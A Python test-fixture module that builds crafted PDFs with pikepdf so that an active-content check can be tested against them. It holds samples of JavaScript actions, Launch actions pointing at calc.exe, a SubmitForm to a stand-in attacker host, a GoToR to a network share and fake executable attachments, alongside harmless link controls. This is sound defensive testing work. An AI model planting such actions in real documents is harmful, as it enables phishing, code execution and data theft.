"""Crafted PDFs for the active-content check: one per kind of action, and harmless links.

Every action is a direct dictionary where the PDF allows it (the case a walk over indirect
objects alone misses); the base document is a clean one-page scan made by img2pdf.
"""

from __future__ import annotations

import io
from collections.abc import Callable

import pikepdf
from PIL import Image, ImageDraw

Maker = Callable[[], bytes]


def scan() -> bytes:
    """A clean one-page scanned PDF (an A4 JPEG at 200 dpi, as img2pdf writes it)."""
    import img2pdf

    img = Image.new("RGB", (1654, 2339), "white")
    draw = ImageDraw.Draw(img)
    for y in range(300, 2000, 60):  # lines of "text", so that capture sees no blank page
        draw.rectangle((200, y, 1450, y + 24), fill="black")
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=80, dpi=(200, 200))
    return bytes(img2pdf.convert([buf.getvalue()]))


def _edit(change: Callable[[pikepdf.Pdf, pikepdf.Page], None]) -> bytes:
    pdf = pikepdf.open(io.BytesIO(scan()))
    change(pdf, pdf.pages[0])
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _action(kind: str, **extra: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name("/" + kind), **extra)


def _js(code: str = "app.alert('x')") -> pikepdf.Dictionary:
    return _action("JavaScript", JS=pikepdf.String(code))


def _annot(page: pikepdf.Page, subtype: str, **extra: object) -> None:
    """A direct annotation dictionary in the page's /Annots array."""
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + subtype),
        Rect=pikepdf.Array([10, 10, 200, 40]), **extra,
    )
    page.obj.Annots = pikepdf.Array([annot])


def _link(action: pikepdf.Dictionary) -> Maker:
    return lambda: _edit(lambda pdf, page: _annot(page, "Link", A=action))


def page_open_javascript() -> bytes:
    """The page's additional actions run JavaScript when it is opened."""
    return _edit(lambda pdf, page: setattr(page.obj, "AA", pikepdf.Dictionary(O=_js())))


def link_javascript() -> bytes:
    """A link annotation (a direct dictionary inside the page) whose /A runs JavaScript."""
    return _link(_js())()


def widget_javascript() -> bytes:
    """A form field's widget whose keystroke action (/AA /K) runs JavaScript."""
    def change(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        _annot(page, "Widget", FT=pikepdf.Name.Tx, T=pikepdf.String("ten"),
               AA=pikepdf.Dictionary(K=_js("event.value = 1")))
        widget = pdf.make_indirect(page.obj.Annots[0])  # a field is an object; its action not
        page.obj.Annots = pikepdf.Array([widget])
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]))
    return _edit(change)


def launch() -> bytes:
    """A link that launches a program."""
    return _link(_action("Launch", F=pikepdf.String("C:\\Windows\\System32\\calc.exe")))()


def submit_form() -> bytes:
    return _link(_action("SubmitForm", F=pikepdf.String("http://attacker.invalid/")))()


def import_data() -> bytes:
    return _link(_action("ImportData", F=pikepdf.String("data.fdf")))()


def goto_remote() -> bytes:
    """A link into another file (/GoToR): it can open a file on a share."""
    return _link(_action("GoToR", F=pikepdf.String("\\\\server\\share\\x.pdf"),
                         D=pikepdf.Array([0, pikepdf.Name.Fit])))()


def goto_embedded() -> bytes:
    return _link(_action("GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C,
                                                       N=pikepdf.String("x"))))()


def rich_media() -> bytes:
    """A RichMedia annotation (Flash or video with scripts)."""
    return _edit(lambda pdf, page: _annot(
        page, "RichMedia", RichMediaContent=pikepdf.Dictionary()))


def embedded_files() -> bytes:
    """A file attached to the document (the catalog's /Names /EmbeddedFiles)."""
    pdf = pikepdf.open(io.BytesIO(scan()))
    pdf.attachments["virus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def file_attachment_annotation() -> bytes:
    """A file attached to a page by a FileAttachment annotation."""
    def change(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="x.exe")
        _annot(page, "FileAttachment", FS=spec.obj)
    return _edit(change)


def open_action_javascript() -> bytes:
    return _edit(lambda pdf, page: setattr(pdf.Root, "OpenAction", _js()))


def document_aa_launch() -> bytes:
    """The document's own additional actions (/AA /WC, on close) launch a program."""
    return _edit(lambda pdf, page: setattr(
        pdf.Root, "AA", pikepdf.Dictionary(WC=_action("Launch", F=pikepdf.String("x.exe")))))


def js_in_next_of_a_link() -> bytes:
    """A harmless /GoTo whose /Next action runs JavaScript."""
    def change(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        goto = _action("GoTo", D=pikepdf.Array([page.obj, pikepdf.Name.Fit]), Next=_js())
        _annot(page, "Link", A=goto)
    return _edit(change)


def javascript_name_tree() -> bytes:
    """Document-level JavaScript in the catalog's /Names tree."""
    def change(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("a"), _js()])))
    return _edit(change)


def hide_action() -> bytes:
    """An action that is neither a link nor harmful by name (/Hide) is still refused."""
    return _link(_action("Hide", T=pikepdf.String("x")))()


# name -> (maker, what the refusal names)
ACTIVE: dict[str, tuple[Maker, str]] = {
    "page_open_javascript": (page_open_javascript, "JavaScript"),
    "link_javascript": (link_javascript, "JavaScript"),
    "widget_javascript": (widget_javascript, "JavaScript"),
    "launch": (launch, "Launch"),
    "submit_form": (submit_form, "SubmitForm"),
    "import_data": (import_data, "ImportData"),
    "goto_remote": (goto_remote, "GoToR"),
    "goto_embedded": (goto_embedded, "GoToE"),
    "rich_media": (rich_media, "RichMedia"),
    "embedded_files": (embedded_files, "EmbeddedFiles"),
    "file_attachment_annotation": (file_attachment_annotation, "FileAttachment"),
    "open_action_javascript": (open_action_javascript, "JavaScript"),
    "document_aa_launch": (document_aa_launch, "Launch"),
    "js_in_next_of_a_link": (js_in_next_of_a_link, "JavaScript"),
    "javascript_name_tree": (javascript_name_tree, "JavaScript"),
    "hide_action": (hide_action, "Hide"),
}


def goto_link() -> bytes:
    """A link to a page of the same file."""
    def change(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        _annot(page, "Link", A=_action("GoTo", D=pikepdf.Array([page.obj, pikepdf.Name.Fit])))
    return _edit(change)


def uri_link() -> bytes:
    """A web link (shown by the viewer, which asks before opening it)."""
    return _link(_action("URI", URI=pikepdf.String("https://vanban.chinhphu.vn/")))()


def open_action_goto() -> bytes:
    """The document opens at its first page (a destination array, and /AA with a /GoTo)."""
    def change(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        pdf.Root.OpenAction = pikepdf.Array([page.obj, pikepdf.Name.Fit])
        page.obj.AA = pikepdf.Dictionary(
            O=_action("GoTo", D=pikepdf.Array([page.obj, pikepdf.Name.Fit])))
    return _edit(change)


HARMLESS: dict[str, Maker] = {
    "scan": scan,
    "goto_link": goto_link,
    "uri_link": uri_link,
    "open_action_goto": open_action_goto,
}
